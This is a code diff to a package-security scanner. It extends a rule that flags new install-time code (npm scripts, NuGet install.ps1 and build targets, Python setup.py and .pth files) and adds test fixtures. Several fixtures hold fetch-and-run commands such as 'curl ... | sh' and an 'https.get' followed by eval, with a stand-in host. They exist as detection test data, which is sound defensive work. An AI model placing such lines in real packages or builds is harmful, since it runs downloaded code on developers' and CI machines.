@@ -48,6 +48,12 @@ public static class DiffRules
 
     private static SampleFile Index(string code) => new("package/index.js", code);
 
+    private static SampleFile Nuspec(string version) =>
+        new("Acme.nuspec", $"""<?xml version="1.0"?><package><metadata><id>Acme</id><version>{version}</version><license type="expression">MIT</license></metadata></package>""");
+
+    private static SampleFile Wheel(string version) =>
+        new($"acme-{version}.dist-info/METADATA", $"Metadata-Version: 2.1\nName: acme\nVersion: {version}\nLicense: MIT\n");
+
     private static readonly string Readable = string.Concat(Enumerable.Range(0, 40).Select(i => $"function f{i}(a, b) {{\n  return a + b * {i};\n}}\n"));
 
     private static readonly string Blob = Convert.ToBase64String([.. Enumerable.Range(0, 6000).Select(i => (byte)(i * 7919 % 251))]);
@@ -61,12 +67,15 @@ public static class DiffRules
         NewInstallScript,
         "Install script added or changed",
         Severity.High,
-        "The new version adds or changes a preinstall, install or postinstall script in package.json. High when the command "
-        + "downloads code or pipes it into an interpreter (curl, wget, PowerShell, node -e, a URL, | sh); medium otherwise.",
+        "The new version adds or changes install-time code: a preinstall, install or postinstall script in package.json (or the "
+        + "node-gyp rebuild a new binding.gyp implies), a file of the package an unchanged npm script runs, a NuGet tools/install.ps1, "
+        + "init.ps1 or uninstall.ps1, a NuGet build file that runs commands or tasks, a Python setup.py in a source distribution "
+        + "or a .pth file with import lines. High when the command downloads code or pipes it into an interpreter (curl, wget, "
+        + "a URL, inline code with a network call) or the new code does what the install/* behaviour rules report; medium otherwise.",
         "Install scripts run with the installing user's rights on every developer machine and CI runner, before anyone has read "
         + "the code. A first-ever install script that fetches and runs a file is the most common shape of a hijacked release.",
         Fix + "for npm, remove the script or ship the work as code the consumer calls; consumers can install with "
-        + "`npm install --ignore-scripts` until it is explained.",
+        + "`npm install --ignore-scripts` until it is explained. For NuGet and Python, read the file the finding names.",
         [
             new("a first postinstall that downloads and runs a script", true,
                 [Manifest("1.0.1", ""","scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}"""), Index("module.exports = 1;")], Severity.High)
@@ -83,6 +92,26 @@ public static class DiffRules
             new("a new test script", false,
                 [Manifest("1.0.1", ""","scripts":{"test":"curl https://x.example | sh"}""")])
                 { Before = [Manifest("1.0.0")] },
+            new("a changed file an unchanged postinstall runs, now fetching and evaluating code", true,
+                [Manifest("1.0.1", ""","scripts":{"postinstall":"node setup.js"}"""), new("package/setup.js", "https.get(u, r => r.on('data', d => eval(String(d))));\n")], Severity.High)
+                { Before = [Manifest("1.0.0", ""","scripts":{"postinstall":"node setup.js"}"""), new("package/setup.js", "console.log('ok');\n")] },
+            new("a first binding.gyp, which makes npm run node-gyp rebuild", true,
+                [Manifest("1.0.1"), new("package/binding.gyp", "{\"targets\":[]}")], Severity.Medium)
+                { Before = [Manifest("1.0.0")] },
+            new("a NuGet package that adds tools/init.ps1", true, [Nuspec("1.0.1"), new("tools/init.ps1", "param($installPath)\nWrite-Host 'hi'\n")], Severity.Medium)
+                { Before = [Nuspec("1.0.0")] },
+            new("a NuGet build file that starts to download and run code", true,
+                [Nuspec("1.0.1"), new("build/Acme.targets", "<Project><Target Name=\"B\" BeforeTargets=\"Build\"><Exec Command=\"curl -s https://x.example/b | sh\" /></Target></Project>")], Severity.High)
+                { Before = [Nuspec("1.0.0"), new("build/Acme.targets", "<Project><PropertyGroup><A>1</A></PropertyGroup></Project>")] },
+            new("a wheel that adds a .pth with an import line", true,
+                [Wheel("1.0.1"), new("acme.pth", "import acme_boot\n")], Severity.Medium)
+                { Before = [Wheel("1.0.0")] },
+            new("an unchanged NuGet build file that runs a command", false,
+                [Nuspec("1.0.1"), new("build/Acme.targets", "<Project><Target Name=\"B\"><Exec Command=\"dotnet gen\" /></Target></Project>")])
+                { Before = [Nuspec("1.0.0"), new("build/Acme.targets", "<Project><Target Name=\"B\"><Exec Command=\"dotnet gen\" /></Target></Project>")] },
+            new("a new NuGet props file with properties only", false,
+                [Nuspec("1.0.1"), new("build/Acme.props", "<Project><PropertyGroup><A>1</A></PropertyGroup></Project>")])
+                { Before = [Nuspec("1.0.0")] },
         ]);
 
     /// <summary>The descriptor of <see cref="NewFileKind"/>.</summary>
